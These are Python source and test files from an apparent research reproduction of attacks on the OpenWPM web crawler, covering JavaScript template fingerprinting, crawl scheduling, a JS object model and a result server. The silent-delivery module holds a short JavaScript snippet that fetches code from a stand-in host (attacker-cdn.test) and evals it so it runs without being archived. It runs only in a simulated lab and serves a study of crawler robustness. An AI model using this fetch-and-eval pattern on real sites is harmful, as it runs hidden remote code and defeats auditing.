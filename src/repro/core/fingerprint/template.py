"""JavaScript template attacks (Schwarz et al., adapted per Sec. 3).

A template is a map from *property path* to a stable characterisation of
what lives there: primitive values verbatim, functions by their
``toString`` (which is precisely what exposes script-level wrappers),
objects by their class. Templates of two clients from the same browser
family are diffed to expose the automation framework's additions,
removals, and tampering.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import Any, Dict, List, Set

from repro.jsobject.errors import JSError
from repro.jsobject.functions import JSFunction
from repro.jsobject.objects import JSArray, JSObject
from repro.jsobject.values import NULL, UNDEFINED, to_js_string

#: Window properties that are environment noise rather than fingerprint
#: signal (live references back into the graph, etc.).
_SKIP_WINDOW_KEYS = frozenset({
    "window", "self", "globalThis", "top", "parent", "frames",
})

#: Hard limits keeping traversal bounded on hostile graphs.
MAX_DEPTH = 5
MAX_NODES = 250_000


@dataclass
class Template:
    """The captured property map of one client."""

    client_name: str
    properties: Dict[str, str] = field(default_factory=dict)

    def __len__(self) -> int:
        return len(self.properties)

    def paths(self) -> Set[str]:
        return set(self.properties)


def _characterise(value: Any) -> str:
    """A stable, comparison-friendly description of a JS value."""
    if value is UNDEFINED:
        return "undefined"
    if value is NULL:
        return "null"
    if isinstance(value, bool):
        return f"boolean:{str(value).lower()}"
    if isinstance(value, (int, float)):
        return f"number:{to_js_string(float(value))}"
    if isinstance(value, str):
        if len(value) > 120:
            digest = hashlib.sha256(value.encode()).hexdigest()[:12]
            return f"string:sha:{digest}"
        return f"string:{value}"
    if isinstance(value, JSFunction):
        source = value.to_source_string()
        if "[native code]" in source:
            return f"function:native:{value.masquerade_name}" \
                if hasattr(value, "masquerade_name") \
                else "function:native"
        digest = hashlib.sha256(source.encode()).hexdigest()[:12]
        return f"function:script:{digest}"
    if isinstance(value, JSArray):
        return f"array:{len(value.elements)}"
    if isinstance(value, JSObject):
        return f"object:{value.class_name}"
    return f"host:{type(value).__name__}"


def _visible_keys(obj: JSObject, stop_at: Set[int],
                  already_visited: Dict[int, str]) -> List[str]:
    """Own + inherited property names, as a probing script would see them.

    Inheritance is cut off at the realm's base prototypes (Object/
    Function/Array.prototype), whose members are identical across clients
    of one browser family and carry no fingerprint signal. Prototypes the
    traversal already covered elsewhere (e.g. via an interface
    constructor's ``.prototype``) are skipped so each property is
    attributed to exactly one path.
    """
    seen: Dict[str, None] = {}
    walker: Any = obj
    while walker is not None and id(walker) not in stop_at:
        if walker is not obj and id(walker) in already_visited:
            break
        for name in walker.own_keys():
            seen.setdefault(name, None)
        walker = walker.proto
    return list(seen.keys())


def capture_template(window: Any, max_depth: int = MAX_DEPTH,
                     max_nodes: int = MAX_NODES) -> Template:
    """Traverse a window's JS object graph into a :class:`Template`.

    For each visible property the template records both the descriptor's
    nature (native vs script accessor — the channel on which
    instrumentation wrappers betray themselves) and the value a script
    would read. Functions are characterised by their ``toString``.
    """
    interp = window.interp
    realm = window.realm
    stop_at = {id(realm.object_prototype), id(realm.function_prototype),
               id(realm.array_prototype), id(realm.error_prototype)}
    template = Template(client_name=window.profile.name)
    seen: Dict[int, str] = {}
    budget = [max_nodes]

    def characterise_descriptor(obj: JSObject, name: str,
                                value: Any) -> str:
        _, desc = obj.lookup(name)
        value_char = _characterise(value)
        if desc is not None and desc.is_accessor:
            getter_char = _characterise(desc.get) if desc.get is not None \
                else "none"
            return f"accessor[{getter_char}]:{value_char}"
        return value_char

    def visit(obj: JSObject, path: str, depth: int) -> None:
        if budget[0] <= 0:
            return
        identity = id(obj)
        if identity in seen:
            template.properties[path] = f"ref:{seen[identity]}"
            return
        seen[identity] = path
        template.properties[path] = f"object:{obj.class_name}"
        if depth >= max_depth:
            return
        for name in _visible_keys(obj, stop_at, seen):
            if path == "window" and name in _SKIP_WINDOW_KEYS:
                continue
            if name == "constructor":
                continue
            budget[0] -= 1
            if budget[0] <= 0:
                return
            child_path = f"{path}.{name}"
            try:
                value = obj.get(name, interp)
            except (JSError, RecursionError):
                template.properties[child_path] = "throws"
                continue
            if isinstance(value, JSObject) and not isinstance(
                    value, JSFunction):
                _, desc = obj.lookup(name)
                if desc is not None and desc.is_accessor:
                    getter_char = _characterise(desc.get) \
                        if desc.get is not None else "none"
                    template.properties[child_path + "{descriptor}"] = \
                        f"accessor[{getter_char}]"
                visit(value, child_path, depth + 1)
            elif isinstance(value, JSFunction):
                template.properties[child_path] = characterise_descriptor(
                    obj, name, value)
                prototype_desc = value.get_own_descriptor("prototype")
                if prototype_desc is not None and isinstance(
                        prototype_desc.value, JSObject):
                    visit(prototype_desc.value, f"{child_path}.prototype",
                          depth + 1)
            else:
                template.properties[child_path] = characterise_descriptor(
                    obj, name, value)

    visit(window.window_object, "window", 0)
    # The document subtree hangs off the host document object.
    visit(window.document, "document", 1)
    return template

"""Table 8: HTTP requests by resource type, WPM vs WPM_hide, r1-r3."""

from conftest import report

#: Paper r1 diffs (%) for the headline rows.
PAPER_R1 = {"csp_report": -76.02, "beacon": 11.28, "xmlhttprequest": 4.82,
            "image": 1.52, "script": 1.38, "total": 1.91}
PAPER_TOTALS = {"r1": 1.91, "r2": 3.37, "r3": 5.32}


def test_benchmark_table8(benchmark, bench_paired):
    rows_per_run = benchmark.pedantic(
        lambda: [bench_paired.table8(r) for r in range(3)],
        rounds=1, iterations=1)

    lines = [f"(paired crawl over {bench_paired.site_count} detector "
             "sites; paper: 1,487)", "",
             "| resource type | WPM r1 | WPM_hide r1 | diff r1 | "
             "diff r2 | diff r3 | paper r1 |",
             "|---|---|---|---|---|---|---|"]
    runs = [{row["resource_type"]: row for row in rows}
            for rows in rows_per_run]
    for resource_type in runs[0]:
        r1 = runs[0][resource_type]
        if r1["wpm"] == 0 and r1["wpm_hide"] == 0:
            continue
        lines.append(
            f"| {resource_type} | {r1['wpm']} | {r1['wpm_hide']} | "
            f"{r1['diff_pct']:+.1f}% | "
            f"{runs[1][resource_type]['diff_pct']:+.1f}% | "
            f"{runs[2][resource_type]['diff_pct']:+.1f}% | "
            f"{PAPER_R1.get(resource_type, '')} |")
    report("table08_resource_types",
           "Table 8 - HTTP requests by resource type", lines)

    # Shape: CSP reports collapse; totals tilt towards WPM_hide and the
    # gap does not shrink across repetitions.
    assert runs[0]["csp_report"]["diff_pct"] < -50
    assert runs[2]["total"]["diff_pct"] > 0
    assert runs[2]["total"]["diff_pct"] >= runs[0]["total"]["diff_pct"]
    assert runs[0]["main_frame"]["diff_pct"] == 0.0

"""Silent JavaScript delivery (paper Listing 4 / Appx. D, Sec. 5.4.2).

The HTTP instrument's ``save_content='script'`` mode archives only
responses that look like JavaScript (content type or ``.js`` extension).
An attacker serves code as ``text/plain`` under an extension-less URL,
fetches it as text, and ``eval``s it client-side: the code runs, but no
archived JS file documents it.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.browser.browser import Browser
from repro.browser.profiles import BrowserProfile, openwpm_profile
from repro.core.attacks.dispatcher import AttackOutcome
from repro.core.lab import LAB_URL
from repro.net.http import HttpResponse
from repro.net.network import FunctionServer, Network
from repro.net.page import PageSpec, ScriptItem

#: Listing 4 verbatim (modulo the attacker domain).
SILENT_DELIVERY_ATTACK = """
const stealth_code = "https://attacker-cdn.test/cheat";
fetch(stealth_code)
    .then(res => res.text())
    .then(res => eval(res));
"""

#: The covertly delivered payload: visible behaviour proves execution.
HIDDEN_PAYLOAD = """
window.__cheat_executed = true;
navigator.userAgent;
"""


@dataclass
class SilentDeliveryOutcome(AttackOutcome):
    payload_executed: bool = False
    payload_archived: bool = False


def run_silent_delivery_attack(profile: Optional[BrowserProfile] = None,
                               save_content: str = "script",
                               stealth: bool = False
                               ) -> SilentDeliveryOutcome:
    """Run Listing 4 against an HTTP instrument in the given save mode.

    Success = the payload executed but was *not* archived. With
    ``save_content='all'`` (the paper's Sec. 6.2.3 recommendation under
    active adversaries) the body is archived and the attack fails.
    """
    from repro.openwpm.config import BrowserParams
    from repro.openwpm.extension import OpenWPMExtension

    js_instrument = None
    if stealth:
        from repro.core.hardening.stealth import StealthJSInstrument

        js_instrument = StealthJSInstrument()
    extension = OpenWPMExtension(
        BrowserParams(save_content=save_content, stealth=stealth),
        js_instrument=js_instrument)
    profile = profile or openwpm_profile("ubuntu", "regular")

    page = PageSpec(url=LAB_URL, items=[
        ScriptItem(source=SILENT_DELIVERY_ATTACK),
    ])
    network = Network()
    network.register_domain("lab.test", FunctionServer(
        lambda r, c, n: HttpResponse(page=page, body=page.to_html())))
    network.register_domain("attacker-cdn.test", FunctionServer(
        lambda r, c, n: HttpResponse(content_type="text/plain",
                                     body=HIDDEN_PAYLOAD)))

    browser = Browser(profile, network, extension=extension)
    result = browser.visit(LAB_URL, wait=10)

    window = result.top_window
    executed = bool(window is not None and window.window_object.get(
        "__cheat_executed", window.interp) is True)
    archived = any("attacker-cdn.test" in url
                   for url, _, _ in extension.http_instrument.saved_bodies)
    return SilentDeliveryOutcome(
        attack="silent-delivery",
        succeeded=executed and not archived,
        recorded_symbols=extension.js_instrument.symbols_accessed()
        if extension.js_instrument else [],
        payload_executed=executed,
        payload_archived=archived,
        details=f"payload executed: {executed}; archived: {archived}; "
                f"save_content={save_content!r}")

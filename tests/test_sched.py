"""Unit tests for the crawl scheduler: queue, pool, orchestration."""

import threading

import pytest

from repro.sched import (
    COMPLETED,
    FAILED,
    LEASED,
    PENDING,
    CrawlScheduler,
    JobFailed,
    JobQueue,
    LeaseError,
    WorkerPool,
    jitter_fraction,
)

SITES = [f"https://site-{i}.test/" for i in range(6)]


class TestJitter:
    def test_deterministic(self):
        a = jitter_fraction(7, "https://x.test/", 1)
        b = jitter_fraction(7, "https://x.test/", 1)
        assert a == b

    def test_varies_with_inputs(self):
        base = jitter_fraction(7, "https://x.test/", 1)
        assert jitter_fraction(8, "https://x.test/", 1) != base
        assert jitter_fraction(7, "https://y.test/", 1) != base
        assert jitter_fraction(7, "https://x.test/", 2) != base

    def test_in_unit_interval(self):
        for attempt in range(1, 10):
            frac = jitter_fraction(3, "https://x.test/", attempt)
            assert 0.0 <= frac < 1.0


class TestJobQueue:
    def test_enqueue_is_idempotent(self):
        queue = JobQueue()
        assert queue.enqueue(SITES) == len(SITES)
        assert queue.enqueue(SITES) == 0
        assert queue.counts()[PENDING] == len(SITES)

    def test_claim_in_enqueue_order(self):
        queue = JobQueue()
        queue.enqueue(SITES)
        claimed = [queue.claim("w").site_url for _ in SITES]
        assert claimed == SITES

    def test_claim_consumes_attempt_and_leases(self):
        queue = JobQueue()
        queue.enqueue(SITES[:1])
        job = queue.claim("w0")
        assert job.attempts == 1
        assert job.lease_owner == "w0"
        assert queue.counts()[LEASED] == 1
        assert queue.claim("w1") is None  # nothing else ready

    def test_complete_requires_lease(self):
        queue = JobQueue()
        queue.enqueue(SITES[:1])
        job = queue.claim("w0")
        with pytest.raises(LeaseError):
            queue.complete(job.job_id, "impostor")
        queue.complete(job.job_id, "w0")
        assert queue.counts()[COMPLETED] == 1
        with pytest.raises(LeaseError):  # lease is gone now
            queue.complete(job.job_id, "w0")

    def test_fail_requeues_with_backoff(self):
        queue = JobQueue(seed=7, max_attempts=3, backoff_base=0.5)
        queue.enqueue(SITES[:1])
        job = queue.claim("w0")
        assert queue.fail(job.job_id, "w0", "boom") == PENDING
        # Backed off: not claimable now, claimable after the delay.
        assert queue.claim("w0") is None
        hint = queue.next_ready_in()
        expected = queue.retry_delay(job.site_url, 1)
        assert hint == pytest.approx(expected, abs=queue.clock._tick * 4)
        queue.clock.advance(hint + 1.0)
        assert queue.claim("w0") is not None

    def test_fail_terminal_after_max_attempts(self):
        queue = JobQueue(max_attempts=2)
        queue.enqueue(SITES[:1])
        job = queue.claim("w0")
        assert queue.fail(job.job_id, "w0", "x") == PENDING
        queue.clock.advance(120.0)
        job = queue.claim("w0")
        assert job.attempts == 2
        assert queue.fail(job.job_id, "w0", "x") == FAILED
        assert queue.counts()[FAILED] == 1

    def test_fail_no_retry_is_terminal(self):
        queue = JobQueue(max_attempts=3)
        queue.enqueue(SITES[:1])
        job = queue.claim("w0")
        assert queue.fail(job.job_id, "w0", "x", retry=False) == FAILED

    def test_retry_delay_deterministic_and_capped(self):
        queue = JobQueue(seed=5, backoff_base=0.5, backoff_cap=4.0)
        d1 = queue.retry_delay("https://x.test/", 1)
        assert d1 == queue.retry_delay("https://x.test/", 1)
        assert 0.5 <= d1 < 1.0
        # Exponential growth capped at backoff_cap (pre-jitter).
        d9 = queue.retry_delay("https://x.test/", 9)
        assert 4.0 <= d9 < 8.0

    def test_reclaim_expired_lease(self):
        queue = JobQueue(lease_seconds=10.0, max_attempts=3)
        queue.enqueue(SITES[:1])
        queue.claim("dead-worker")
        assert queue.reclaim_expired().total == 0  # lease still fresh
        queue.clock.advance(11.0)
        reclaim = queue.reclaim_expired()
        assert reclaim.total == 1
        assert reclaim.requeued == 1 and not reclaim.failed_jobs
        assert queue.counts()[PENDING] == 1
        row = queue.job_rows()[0]
        assert row["last_error"] == "lease_expired"

    def test_reclaim_expired_exhausted_goes_terminal(self):
        queue = JobQueue(lease_seconds=10.0, max_attempts=1)
        queue.enqueue(SITES[:1])
        queue.claim("dead-worker")
        queue.clock.advance(11.0)
        reclaim = queue.reclaim_expired()
        assert reclaim.total == 1
        assert [job.site_url for job in reclaim.failed_jobs] == SITES[:1]
        assert queue.counts()[FAILED] == 1

    def test_release_leases_ignores_expiry(self):
        queue = JobQueue(lease_seconds=1e9)
        queue.enqueue(SITES[:2])
        queue.claim("w0")
        queue.claim("w1")
        assert queue.release_leases() == 2
        assert queue.counts()[PENDING] == 2

    def test_persists_across_reopen(self, tmp_path):
        path = str(tmp_path / "jobs.sqlite")
        queue = JobQueue(path)
        queue.enqueue(SITES)
        job = queue.claim("w0")
        queue.complete(job.job_id, "w0")
        queue.close()

        reopened = JobQueue(path)
        counts = reopened.counts()
        assert counts[COMPLETED] == 1
        assert counts[PENDING] == len(SITES) - 1
        assert reopened.enqueue(SITES) == 0  # still idempotent
        assert reopened.sites(status=COMPLETED) == [SITES[0]]
        reopened.close()

    def test_thread_safe_claims_are_exclusive(self):
        queue = JobQueue()
        queue.enqueue([f"https://s{i}.test/" for i in range(40)])
        seen, errors = [], []

        def worker(name):
            while True:
                job = queue.claim(name)
                if job is None:
                    return
                seen.append(job.site_url)
                try:
                    queue.complete(job.job_id, name)
                except LeaseError as exc:  # pragma: no cover
                    errors.append(exc)

        threads = [threading.Thread(target=worker, args=(f"w{i}",))
                   for i in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert not errors
        assert len(seen) == 40
        assert len(set(seen)) == 40  # no double-claims


class TestAdvanceIfIdle:
    def test_advances_to_next_retry_when_idle(self):
        queue = JobQueue(max_attempts=3, backoff_base=0.5)
        queue.enqueue(SITES[:1])
        job = queue.claim("w0")
        queue.fail(job.job_id, "w0", "boom", retry=True)
        assert queue.next_ready_in() > 0
        assert queue.advance_if_idle()
        assert queue.next_ready_in() == 0.0
        assert queue.claim("w0") is not None

    def test_refuses_while_a_lease_is_live(self):
        queue = JobQueue(max_attempts=3, backoff_base=0.5)
        queue.enqueue(SITES[:2])
        queue.claim("w0")  # live lease
        backing_off = queue.claim("w1")
        queue.fail(backing_off.job_id, "w1", "boom", retry=True)
        before = queue.clock.peek()
        assert not queue.advance_if_idle()
        assert queue.clock.peek() == before

    def test_refuses_when_nothing_is_waiting(self):
        queue = JobQueue()
        queue.enqueue(SITES[:1])  # ready now, not backing off
        before = queue.clock.peek()
        assert not queue.advance_if_idle()
        assert queue.clock.peek() == before

    def test_wall_clock_reports_no_motion(self):
        from repro.obs.clock import WallClock

        queue = JobQueue(max_attempts=3, backoff_base=30.0,
                         clock=WallClock())
        queue.enqueue(SITES[:1])
        job = queue.claim("w0")
        queue.fail(job.job_id, "w0", "boom", retry=True)
        # Real time cannot be jumped: the caller must fall back to a
        # real sleep instead of spinning on no-op advances.
        assert queue.advance_if_idle() is False


class TestWorkerPool:
    def test_single_worker_runs_inline(self):
        queue = JobQueue()
        queue.enqueue(SITES)
        thread_ids = []

        def handler(job, index):
            thread_ids.append(threading.get_ident())

        report = WorkerPool(queue, handler, workers=1).run()
        assert report.completed == len(SITES)
        assert set(thread_ids) == {threading.get_ident()}

    def test_multi_worker_drains_everything(self):
        queue = JobQueue()
        sites = [f"https://s{i}.test/" for i in range(30)]
        queue.enqueue(sites)
        done = []
        lock = threading.Lock()

        def handler(job, index):
            with lock:
                done.append(job.site_url)

        report = WorkerPool(queue, handler, workers=4).run()
        assert report.completed == 30
        assert sorted(done) == sorted(sites)
        assert queue.counts()[COMPLETED] == 30

    def test_jobfailed_terminal(self):
        queue = JobQueue(max_attempts=3)
        queue.enqueue(SITES[:1])

        def handler(job, index):
            raise JobFailed("failure_limit", retry=False)

        report = WorkerPool(queue, handler, workers=1).run()
        assert report.failed == 1
        assert report.retried == 0
        assert queue.counts()[FAILED] == 1

    def test_unexpected_exception_retries_then_fails(self):
        queue = JobQueue(max_attempts=3, backoff_base=0.01)
        queue.enqueue(SITES[:1])
        calls = []

        def handler(job, index):
            calls.append(job.attempts)
            raise RuntimeError("transient")

        report = WorkerPool(queue, handler, workers=1).run()
        assert calls == [1, 2, 3]
        assert report.retried == 2
        assert report.failed == 1
        assert queue.counts()[FAILED] == 1

    def test_handler_recovers_on_retry(self):
        queue = JobQueue(max_attempts=3, backoff_base=0.01)
        queue.enqueue(SITES[:1])

        def handler(job, index):
            if job.attempts == 1:
                raise RuntimeError("transient")

        report = WorkerPool(queue, handler, workers=1).run()
        assert report.retried == 1
        assert report.completed == 1
        assert queue.counts()[COMPLETED] == 1

    def test_stop_after_jobs_leaves_remainder_pending(self):
        queue = JobQueue()
        queue.enqueue(SITES)

        report = WorkerPool(queue, lambda job, index: None,
                            workers=1).run(stop_after_jobs=2)
        assert report.completed == 2
        assert report.interrupted
        assert queue.counts()[PENDING] == len(SITES) - 2

    def test_on_terminal_failure_hook_fires_once(self):
        queue = JobQueue(max_attempts=2, backoff_base=0.01)
        queue.enqueue(SITES[:1])
        seen = []

        def handler(job, index):
            raise RuntimeError("boom")

        report = WorkerPool(
            queue, handler, workers=1,
            on_terminal_failure=lambda job, error, index:
            seen.append((job.site_url, error, index))).run()
        assert report.retried == 1
        assert report.failed == 1
        # The hook fires only on the terminal transition, not retries.
        assert len(seen) == 1
        assert seen[0][0] == SITES[0]
        assert "boom" in seen[0][1]

    def test_on_terminal_failure_hook_errors_are_contained(self):
        queue = JobQueue(max_attempts=1)
        queue.enqueue(SITES[:2])

        def handler(job, index):
            raise JobFailed("nope", retry=False)

        def hook(job, error, index):
            raise ValueError("ledger write blew up")

        report = WorkerPool(queue, handler, workers=1,
                            on_terminal_failure=hook).run()
        # A broken ledger hook must not kill the worker loop.
        assert report.failed == 2
        assert any("ledger write blew up" in e for e in report.errors)

    def test_worker_indexes_within_bounds(self):
        queue = JobQueue()
        queue.enqueue([f"https://s{i}.test/" for i in range(20)])
        indexes = set()
        lock = threading.Lock()

        def handler(job, index):
            with lock:
                indexes.add(index)

        WorkerPool(queue, handler, workers=3).run()
        assert indexes <= {0, 1, 2}


class TestCrawlScheduler:
    def test_fresh_run_drains(self):
        scheduler = CrawlScheduler(seed=1)
        scheduler.enqueue(SITES)
        report = scheduler.run(lambda job, index: None, workers=2)
        assert report.completed == len(SITES)
        assert report.drained
        assert report.enqueued_new == len(SITES)
        scheduler.close()

    def test_resume_requires_file_queue(self):
        with pytest.raises(ValueError):
            CrawlScheduler(resume=True)

    def test_fresh_run_clears_previous_queue(self, tmp_path):
        path = str(tmp_path / "queue.sqlite")
        first = CrawlScheduler(path, seed=1)
        first.enqueue(SITES)
        first.run(lambda job, index: None, workers=1,
                  stop_after_jobs=2)
        first.close()

        fresh = CrawlScheduler(path, seed=1)  # resume=False drops state
        fresh.enqueue(SITES[:3])
        assert fresh.queue.counts()[PENDING] == 3
        fresh.close()

    def test_resume_skips_completed_and_releases_leases(self, tmp_path):
        path = str(tmp_path / "queue.sqlite")
        first = CrawlScheduler(path, seed=1)
        first.enqueue(SITES)
        first.run(lambda job, index: None, workers=1, stop_after_jobs=2)
        # Simulate a crash mid-lease: leave one site leased on disk.
        first.queue.claim("dead-worker")
        first.queue.close()

        resumed = CrawlScheduler(path, resume=True, seed=1)
        assert resumed._released == 1
        assert resumed.enqueue(SITES) == 0  # idempotent re-enqueue
        visited = []
        report = resumed.run(
            lambda job, index: visited.append(job.site_url), workers=1)
        assert report.drained
        # Exactly the sites the first run did not complete, in order.
        assert visited == SITES[2:]
        resumed.close()

"""Unit tests for JSObject property/descriptor/prototype semantics."""

import pytest

from repro.jsobject import (
    NULL,
    UNDEFINED,
    JSArray,
    JSObject,
    NativeFunction,
    PropertyDescriptor,
)


def native(fn, name="f"):
    return NativeFunction(fn, name=name)


class TestDataProperties:
    def test_get_missing_is_undefined(self):
        assert JSObject().get("nope") is UNDEFINED

    def test_set_then_get(self):
        obj = JSObject()
        obj.set("a", 1.0)
        assert obj.get("a") == 1.0

    def test_put_installs_descriptor(self):
        obj = JSObject()
        obj.put("a", 2.0, enumerable=False)
        desc = obj.get_own_descriptor("a")
        assert desc.value == 2.0
        assert desc.enumerable is False

    def test_non_writable_swallows_write(self):
        obj = JSObject()
        obj.put("a", 1.0, writable=False)
        assert obj.set("a", 2.0) is False
        assert obj.get("a") == 1.0

    def test_non_extensible_rejects_new_property(self):
        obj = JSObject()
        obj.extensible = False
        assert obj.set("a", 1.0) is False
        assert not obj.has_property("a")


class TestPrototypeChain:
    def test_inherited_read(self):
        proto = JSObject()
        proto.put("a", 1.0)
        child = JSObject(proto=proto)
        assert child.get("a") == 1.0

    def test_write_shadows_inherited_data(self):
        proto = JSObject()
        proto.put("a", 1.0)
        child = JSObject(proto=proto)
        child.set("a", 2.0)
        assert child.get("a") == 2.0
        assert proto.get("a") == 1.0

    def test_inherited_non_writable_blocks_shadowing(self):
        proto = JSObject()
        proto.put("a", 1.0, writable=False)
        child = JSObject(proto=proto)
        assert child.set("a", 2.0) is False
        assert child.get_own_descriptor("a") is None

    def test_lookup_returns_holder(self):
        proto = JSObject()
        proto.put("a", 1.0)
        child = JSObject(proto=proto)
        holder, desc = child.lookup("a")
        assert holder is proto
        assert desc.value == 1.0

    def test_prototype_chain_iteration(self):
        grandparent = JSObject()
        parent = JSObject(proto=grandparent)
        child = JSObject(proto=parent)
        assert list(child.prototype_chain()) == [child, parent, grandparent]

    def test_in_operator_sees_inherited(self):
        proto = JSObject()
        proto.put("a", 1.0)
        assert JSObject(proto=proto).has_property("a")


class TestAccessors:
    def test_getter_invoked_with_receiver(self):
        seen = []
        proto = JSObject()
        proto.define_property("x", PropertyDescriptor.accessor(
            get=native(lambda i, t, a: seen.append(t) or 7.0)))
        child = JSObject(proto=proto)
        assert child.get("x") == 7.0
        assert seen[0] is child

    def test_getter_only_swallows_write(self):
        obj = JSObject()
        obj.define_property("x", PropertyDescriptor.accessor(
            get=native(lambda i, t, a: 1.0)))
        assert obj.set("x", 2.0) is False
        assert obj.get("x") == 1.0

    def test_setter_receives_value(self):
        box = []
        obj = JSObject()
        obj.define_property("x", PropertyDescriptor.accessor(
            get=native(lambda i, t, a: box[-1] if box else UNDEFINED),
            set=native(lambda i, t, a: box.append(a[0]))))
        obj.set("x", 5.0)
        assert obj.get("x") == 5.0

    def test_inherited_setter_used_instead_of_shadowing(self):
        box = []
        proto = JSObject()
        proto.define_property("x", PropertyDescriptor.accessor(
            set=native(lambda i, t, a: box.append(a[0]))))
        child = JSObject(proto=proto)
        child.set("x", 9.0)
        assert box == [9.0]
        assert child.get_own_descriptor("x") is None


class TestDefineDelete:
    def test_redefine_non_configurable_raises(self):
        obj = JSObject()
        obj.put("a", 1.0, configurable=False)
        with pytest.raises(TypeError):
            obj.define_property("a", PropertyDescriptor.data(2.0))

    def test_delete_configurable(self):
        obj = JSObject()
        obj.put("a", 1.0)
        assert obj.delete_property("a") is True
        assert not obj.has_property("a")

    def test_delete_non_configurable_fails(self):
        obj = JSObject()
        obj.put("a", 1.0, configurable=False)
        assert obj.delete_property("a") is False
        assert obj.get("a") == 1.0

    def test_delete_missing_is_true(self):
        assert JSObject().delete_property("ghost") is True


class TestEnumeration:
    def test_own_keys_insertion_order(self):
        obj = JSObject()
        obj.put("b", 1.0)
        obj.put("a", 2.0)
        assert obj.own_keys() == ["b", "a"]

    def test_enumerable_keys_skip_non_enumerable(self):
        obj = JSObject()
        obj.put("visible", 1.0)
        obj.put("hidden", 2.0, enumerable=False)
        assert obj.enumerable_keys() == ["visible"]

    def test_enumerable_keys_include_inherited(self):
        proto = JSObject()
        proto.put("inherited", 1.0)
        child = JSObject(proto=proto)
        child.put("own", 2.0)
        assert child.enumerable_keys() == ["own", "inherited"]

    def test_shadowed_non_enumerable_hides_inherited(self):
        proto = JSObject()
        proto.put("x", 1.0)
        child = JSObject(proto=proto)
        child.put("x", 2.0, enumerable=False)
        assert "x" not in child.enumerable_keys()


class TestJSArray:
    def test_length_tracks_elements(self):
        arr = JSArray([1.0, 2.0])
        assert arr.get("length") == 2.0

    def test_index_read_write(self):
        arr = JSArray([1.0])
        arr.set("0", 9.0)
        assert arr.get("0") == 9.0

    def test_out_of_range_read_is_undefined(self):
        assert JSArray([]).get("5") is UNDEFINED

    def test_write_past_end_extends_with_holes(self):
        arr = JSArray([])
        arr.set("2", 1.0)
        assert len(arr.elements) == 3
        assert arr.elements[0] is UNDEFINED

    def test_truncate_via_length(self):
        arr = JSArray([1.0, 2.0, 3.0])
        arr.set("length", 1)
        assert arr.elements == [1.0]

    def test_named_properties_coexist(self):
        arr = JSArray([1.0])
        arr.set("tag", "x")
        assert arr.get("tag") == "x"
        assert arr.get("length") == 1.0

    def test_enumerable_keys_are_indices_first(self):
        arr = JSArray([1.0, 2.0])
        arr.set("extra", 1.0)
        assert arr.enumerable_keys()[:2] == ["0", "1"]
        assert "extra" in arr.enumerable_keys()

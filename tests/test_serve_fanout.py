"""Serve-layer shard fan-out and HTTP conditional requests.

Fan-out is the query-time face of ``--shard-dbs``: ``repro serve`` can
mount several crawl databases at once and answer every route by
merging rollup aggregates across them, so shard sets can be inspected
without first folding them into one canonical file. The acceptance
bar is payload equality — a fan-out over databases that partition a
site population must return byte-identical bodies to a single
database covering the union.

Conditional requests ride on the rollup generation: the ETag **is**
the generation (a dash-joined vector when fanning out), so
``If-None-Match`` turns a repeat poll into an empty 304 whenever no
crawl data changed anywhere.
"""

import json
import sqlite3
import urllib.error
import urllib.request

import pytest

from repro.obs.runner import run_telemetry_crawl
from repro.serve import ResultServer
from repro.serve.api import etag_for, generation_header

URLS = [f"https://lab.test/site-{i:05d}" for i in range(10)]

ROUTES = [
    ("/sites", ""),
    ("/aggregates/totals", ""),
    ("/aggregates/symbols", ""),
    ("/aggregates/resources", ""),
    ("/aggregates/cookies", ""),
    ("/aggregates/crashes", ""),
    ("/aggregates/drop_reasons", ""),
    ("/site", f"url={URLS[0]}"),
    ("/site", f"url={URLS[7]}"),
    ("/healthz", ""),
]


def decode(response):
    return json.loads(response.body.decode("utf-8"))


@pytest.fixture(scope="module")
def databases(tmp_path_factory):
    """Two disjoint 5-site crawls plus one crawl of the full union."""
    tmp = tmp_path_factory.mktemp("fanout")

    def one(name, subset):
        db = str(tmp / f"{name}.db")
        result = run_telemetry_crawl(
            site_count=len(subset), seed=7, database_path=db,
            crash_probability=0.0, browsers=1, web="lab", urls=subset)
        result.close()
        return db

    return {"a": one("a", URLS[:5]), "b": one("b", URLS[5:]),
            "all": one("all", URLS)}


@pytest.fixture(scope="module")
def servers(databases):
    single = ResultServer(databases["all"])
    fan = ResultServer([databases["a"], databases["b"]])
    yield single, fan
    single.close()
    fan.close()


class TestFanOutParity:
    @pytest.mark.parametrize("path,query", ROUTES[:-1])
    def test_fanout_body_equals_single_database(self, servers, path,
                                                query):
        single, fan = servers
        ours = fan.respond(path, query)
        theirs = single.respond(path, query)
        assert ours.status == theirs.status == 200
        assert ours.body == theirs.body

    def test_corpus_refs_sum_across_shards(self, tmp_path):
        """Lab crawls save no script content, so this parity check
        runs on tranco crawls: a hash referenced from sites in *both*
        shards must answer with the summed ref count."""
        from repro.web import build_world

        urls = build_world(site_count=6, seed=7).front_urls(6)

        def one(name, subset):
            db = str(tmp_path / f"{name}.db")
            result = run_telemetry_crawl(
                site_count=6, seed=7, database_path=db,
                crash_probability=0.0, browsers=1, web="tranco",
                urls=subset)
            result.close()
            return db

        single = ResultServer(one("all", urls))
        fan = ResultServer([one("a", urls[:3]), one("b", urls[3:])])
        try:
            conn = sqlite3.connect(single.database_path)
            hashes = [row[0] for row in conn.execute(
                "SELECT DISTINCT content_hash FROM content "
                "ORDER BY content_hash LIMIT 5")]
            conn.close()
            assert hashes
            for content_hash in hashes:
                ours = fan.respond("/corpus/" + content_hash)
                theirs = single.respond("/corpus/" + content_hash)
                assert ours.status == theirs.status == 200
                assert decode(ours)["refs"] == decode(theirs)["refs"]
                assert decode(ours)["sites"] == decode(theirs)["sites"]
            missing = "0" * 64
            assert fan.respond("/corpus/" + missing).status \
                == single.respond("/corpus/" + missing).status == 404
        finally:
            single.close()
            fan.close()

    def test_healthz_reports_generation_vector(self, servers,
                                               databases):
        _, fan = servers
        response = fan.respond("/healthz")
        assert response.status == 200
        payload = decode(response)
        assert payload["rollups"] == "fresh"
        assert isinstance(payload["generation"], list)
        assert len(payload["generation"]) == 2
        assert payload["database"] == [databases["a"],
                                       databases["b"]]
        assert payload["sites"] == 10

    def test_missing_fanout_member_is_a_serve_error(self, databases,
                                                    tmp_path):
        from repro.serve import ServeError

        with pytest.raises(ServeError):
            ResultServer([databases["a"], str(tmp_path / "nope.db")])


class TestConditionalRequests:
    def test_etag_formats(self):
